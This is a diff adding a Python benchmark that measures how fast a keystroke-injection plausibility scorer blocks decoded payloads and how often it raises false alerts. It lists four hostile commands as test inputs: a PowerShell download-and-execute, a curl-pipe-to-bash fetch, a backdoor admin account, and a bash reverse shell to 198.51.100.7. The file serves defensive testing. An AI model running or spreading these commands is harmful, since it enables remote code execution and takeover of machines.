@@ -0,0 +1,156 @@
+"""
+tests/research/bench_plausibility.py
+
+Trigram plausibility scorer: false alerts, detection latency and cost
+Human input is held-out text (this repo's README and source, plus shell
+commands) as the decoder would output it. Injected input is a payload
+typed in plain text, which the decoder turns into a substitution of it
+under the epoch's reverse keymap. Cost is Decoder.handle per key with and
+without the scorer.
+"""
+
+import contextlib
+import os
+import random
+import sys
+import time
+from pathlib import Path
+
+project_root = Path(__file__).parent.parent.parent
+sys.path.insert(0, str(project_root))
+
+import ENDPOINT.main as endpoint_main
+from ENDPOINT.plausibility import PlausibilityScorer, WINDOW, THRESHOLD
+from ENDPOINT.epoch_window import EpochWindow
+from UTILS.events import KeyRecord, KEY_NAMES, KEY_DOWN, KEY_UP
+from UTILS.keymap import seed_to_keymap, reverse_keymap
+from UTILS.rekey import KeySchedule
+from UTILS.seedgen import generate_seed
+
+SYM_KEY = bytes(range(32))
+BASE_TIME = int(time.time()) - 100 * endpoint_main.INTERVAL - 1
+EPOCHS = 50  # Reverse keymaps each payload is decoded under
+ROUNDS = 200
+
+SHELL = [
+    "cd ~/projects/app && git status && git pull origin main",
+    "sudo systemctl restart nginx && journalctl -u nginx --since today",
+    "ls -la /var/log | grep -i error | tail -n 20",
+    "python3 -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt",
+    "docker compose up -d --build && docker ps",
+    "ssh admin@192.168.1.20 'df -h; free -m; uptime'",
+]
+
+PAYLOADS = [
+    "powershell -NoP -NonI -W Hidden -Exec Bypass -Command Invoke-WebRequest http://198.51.100.7/p.ps1 | iex",
+    "curl -s http://198.51.100.7/x.sh | bash",
+    "cmd /c net user backdoor P4ssw0rd /add && net localgroup administrators backdoor /add",
+    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+]
+
+def human_texts():
+    """(label, text) of held-out typing: prose, code and commands"""
+    readme = (project_root / "README.md").read_text(errors="ignore")
+    code = "\n".join(
+        path.read_text(errors="ignore")
+        for path in sorted((project_root / "ENDPOINT").glob("*.py")) + sorted((project_root / "SENDER").glob("*.py"))
+    )
+    return [("README prose", readme), ("Python source", code), ("shell commands", " ".join(SHELL))]
+
+def typed(text):
+    """Characters as the decoder would emit them: whitespace runs become one key"""
+    return " ".join(text.split())
+
+def false_alerts(text):
+    scorer = PlausibilityScorer(block=True)
+    for char in typed(text):
+        scorer.observe(char)
+    return scorer.blocked, len(typed(text)), scorer.alerts
+
+def detection(lead_in, payload, reverse):
+    """Characters of the decoded payload let through before it is blocked, or None"""
+    scorer = PlausibilityScorer(block=True)
+    for char in typed(lead_in):
+        scorer.observe(char)
+    for index, char in enumerate(payload):
+        decoded = reverse.get(char.lower(), char.lower())
+        if char.isupper() and decoded.isalpha():
+            decoded = decoded.upper()
+        if not scorer.observe(decoded):
+            return index
+    return None
+
+class NullKeyboardWriter:
+    """ENDPOINT writer stand-in - no /dev/uinput needed"""
+
+    def press_key(self, keycode, modifier=0):
+        pass
+
+    def release_key(self, keycode, modifier=0):
+        pass
+
+def decode_cost(plausibility, repeats=5):
+    """Best Decoder.handle time per event over `repeats` runs, in us"""
+    window = EpochWindow(KeySchedule(SYM_KEY), table_builder=endpoint_main.build_decode_table)
+    decoder = endpoint_main.Decoder(window, BASE_TIME, NullKeyboardWriter(), plausibility=plausibility)
+    codes = {name: code for code, name in KEY_NAMES.items() if isinstance(name, str)}
+    stream = []
+    for char in "the quick brown fox jumps over the lazy dog 1234567890 ":
+        key = 'KEY_SPACE' if char == ' ' else f"KEY_{char.upper()}"
+        stream += [(key, codes[key], KEY_DOWN), (key, codes[key], KEY_UP)]
+    record = KeyRecord()
+
+    def run():
+        for key, code, state in stream:
+            record.key, record.code, record.state = key, code, state
+            decoder.handle(record)
+
+    run()  # Builds the tables
+    best = float('inf')
+    for _ in range(repeats):
+        start = time.perf_counter()
+        for _ in range(ROUNDS):
+            run()
+        best = min(best, time.perf_counter() - start)
+    return best / (ROUNDS * len(stream)) * 1e6
+
+def main():
+    print("=" * 70)
+    print(f"PLAUSIBILITY SCORER: {WINDOW}-char window, alert above {THRESHOLD} bits/char")
+    print("=" * 70)
+
+    rng = random.Random(0)
+    with contextlib.redirect_stdout(open(os.devnull, 'w')):
+        humans = [(label,) + false_alerts(text) for label, text in human_texts()]
+        latencies = []
+        missed = 0
+        for epoch in range(EPOCHS):
+            reverse = reverse_keymap(seed_to_keymap(generate_seed(SYM_KEY, epoch)))
+            for payload in PAYLOADS:
+                lead_in = rng.choice(SHELL)
+                caught = detection(lead_in, payload, reverse)
+                if caught is None:
+                    missed += 1
+                else:
+                    latencies.append(caught)
+        plain = decode_cost(None)
+        scored = decode_cost(PlausibilityScorer(block=False))
+
+    print("  False alerts (held-out human text, blocking on)")
+    for label, dropped, chars, alerts in humans:
+        print(f"    {label:<20} {alerts:>3} alerts, {dropped:>6} of {chars:>6} chars dropped "
+              f"({dropped / chars * 100:.2f} %)")
+    latencies.sort()
+    total = len(latencies) + missed
+    print(f"  Detection ({total} decoded payloads after a line of typing)")
+    if latencies:
+        print(f"    Chars let through: median={latencies[len(latencies) // 2]}  "
+              f"p90={latencies[int(len(latencies) * 0.9)]}  max={latencies[-1]}")
+    print(f"    Missed: {missed}")
+    print("  Decode cost")
+    print(f"    Decoder.handle                   {plain:>6.2f} us/event")
+    print(f"    Decoder.handle + plausibility    {scored:>6.2f} us/event  ({scored - plain:+.2f})")
+    print("=" * 70)
+
+if __name__ == "__main__":
+    main()